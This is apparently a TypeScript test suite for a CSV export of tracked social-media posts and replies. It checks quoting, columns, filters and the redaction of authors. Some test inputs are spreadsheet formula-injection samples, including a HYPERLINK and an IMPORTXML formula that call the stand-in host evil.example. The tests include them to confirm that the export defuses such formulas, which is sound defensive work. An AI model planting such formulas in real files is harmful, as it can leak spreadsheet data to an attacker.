import { describe, expect, it } from 'vitest';
import { computeImpact } from './compute-impact';
import { csvCell, repliesCsv, sightingsCsv } from './impact-csv';
import type { ImpactData, ImpactFilter } from './impact-types';
import { generateHistory } from './testing/generate-history';

const history = generateHistory({ sightings: 60, replies: 20 });
const london: ImpactFilter = { timeZone: 'Europe/London', period: 'week' };

/** An RFC 4180 reader, to check that what we write reads back cell for cell. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const character = text[i]!;
    if (quoted) {
      if (character === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (character === '"') quoted = false;
      else cell += character;
    } else if (character === '"') quoted = true;
    else if (character === ',') {
      row.push(cell);
      cell = '';
    } else if (character === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += character;
  }
  return rows;
}

const withText = (...texts: string[]): ImpactData => {
  const data = generateHistory({ sightings: texts.length, replies: 0 });
  for (const [index, sighting] of data.sightings.entries()) sighting.post.text = texts[index]!;
  return data;
};

describe('csvCell', () => {
  it.each([
    ['plain', 'plain'],
    ['a, b', '"a, b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line\nbreak', '"line\nbreak"'],
    ['line\r\nbreak', '"line\r\nbreak"'],
    // Formulas a spreadsheet would run, kept as text.
    ['=1+1', "'=1+1"],
    ['+44 20 7946 0000', "'+44 20 7946 0000"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=cmd', "'\t=cmd"],
    ['=HYPERLINK("https://evil.example/?"&A1, "click")', `"'=HYPERLINK(""https://evil.example/?""&A1, ""click"")"`],
    ['a = b', 'a = b'],
    ['', ''],
  ])('%j → %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('writes numbers and missing values as they are', () => {
    expect([csvCell(-3), csvCell(12.5), csvCell(undefined)]).toEqual(['-3', '12.5', '']);
  });
});

describe('sightingsCsv', () => {
  it('writes a header and one row per sighting, oldest first, with CRLF line ends', () => {
    const text = sightingsCsv(history, london, { includeAuthors: false });
    expect(text.endsWith('\r\n')).toBe(true);
    const [header, ...rows] = readCsv(text);
    expect(header).toEqual([
      'id',
      'captured_at',
      'captured_date',
      'platform',
      'text',
      'matched_entry_ids',
      'matched_entry_titles',
      'decision',
      'decided_at',
      'captured_by',
    ]);
    expect(rows).toHaveLength(60);
    expect(rows[3]).toEqual([
      history.sightings[3]!.id,
      '2026-01-08T12:00:00.000Z',
      '2026-01-08',
      'x',
      'Post 3: they are all getting something for nothing',
      'mixed-d; crime-a',
      'Mixed myth D; Crime myth A',
      'undecided',
      '',
      'ben',
    ]);
  });

  it('reads back untrusted text cell for cell, with formulas defused', () => {
    const texts = ['commas, "quotes"\nand a new line', '=IMPORTXML("https://evil.example", "//a")', '@everyone look', 'plain'];
    const rows = readCsv(sightingsCsv(withText(...texts), london, { includeAuthors: false })).slice(1);
    expect(rows.map((row) => row[4])).toEqual([
      'commas, "quotes"\nand a new line',
      `'=IMPORTXML("https://evil.example", "//a")`,
      "'@everyone look",
      'plain',
    ]);
    expect(rows.every((row) => row.length === 10)).toBe(true);
  });

  it('leaves post authors, addresses and page titles out unless asked', () => {
    const without = sightingsCsv(history, london, { includeAuthors: false });
    expect(without).not.toMatch(/author\d|example\.social/);
    const [header, first] = readCsv(sightingsCsv(history, london, { includeAuthors: true }));
    expect(header!.slice(4, 7)).toEqual(['author', 'url', 'page_title']);
    expect(first!.slice(4, 7)).toEqual(["'@author0", 'https://example.social/@author0/0', '']);
    expect(sightingsCsv(history, london)).toBe(without);
  });

  it.each([{}, { topic: 'crime' }, { member: 'amira' }, { from: '2026-02-01', to: '2026-02-28' }] as const)(
    'selects what the figures count, for %j',
    (narrowing) => {
      const filter = { ...london, ...narrowing };
      const now = new Date('2026-03-06T00:00:00Z');
      const totals = computeImpact(history, filter, now).totals;
      expect(readCsv(sightingsCsv(history, filter)).length - 1).toBe(totals.sightings);
      expect(readCsv(repliesCsv(history, filter)).length - 1).toBe(totals.replies);
    },
  );
});

describe('repliesCsv', () => {
  it('writes each reply with its entry, time to reply, audiences and spokesperson', () => {
    const [header, first, second] = readCsv(repliesCsv(history, london));
    expect(header).toEqual([
      'id',
      'posted_at',
      'posted_date',
      'entry_ids',
      'entry_titles',
      'sighting_id',
      'minutes_to_reply',
      'post_platform',
      'audiences',
      'spokesperson',
      'channel',
      'language',
      'posted_by',
    ]);
    expect(first).toEqual([
      history.replies[0]!.id,
      '2026-01-05T12:01:00.000Z',
      '2026-01-05',
      'crime-a',
      'Crime myth A',
      history.sightings[0]!.id,
      '1',
      'x',
      'Local workers',
      'Council leader',
      'x',
      'en',
      'amira',
    ]);
    expect(second).toEqual([
      history.replies[1]!.id,
      '2026-01-08T12:02:00.000Z',
      '2026-01-08',
      'mixed-d',
      'Mixed myth D',
      history.sightings[3]!.id,
      '2',
      'x',
      'Parents',
      '',
      'facebook',
      'en',
      'ben',
    ]);
  });

  it('adds the answered post’s author only when asked', () => {
    expect(repliesCsv(history, london)).not.toMatch(/author\d/);
    const [header, first] = readCsv(repliesCsv(history, london, { includeAuthors: true }));
    expect(header!.slice(8, 10)).toEqual(['post_author', 'post_url']);
    expect(first!.slice(8, 10)).toEqual(["'@author0", 'https://example.social/@author0/0']);
  });
});
